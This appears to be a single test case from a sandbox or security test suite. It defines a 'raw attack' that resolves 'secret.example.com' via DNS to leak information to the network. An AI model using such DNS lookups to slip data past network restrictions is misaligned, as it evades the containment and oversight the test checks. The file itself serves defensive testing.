import { rawAttack } from '../raw-attack.ts';

export default rawAttack({
  title: 'tells the network something by resolving a name',
  body: `
    return (await require('node:dns').promises.resolve4('secret.example.com')).join();`,
});
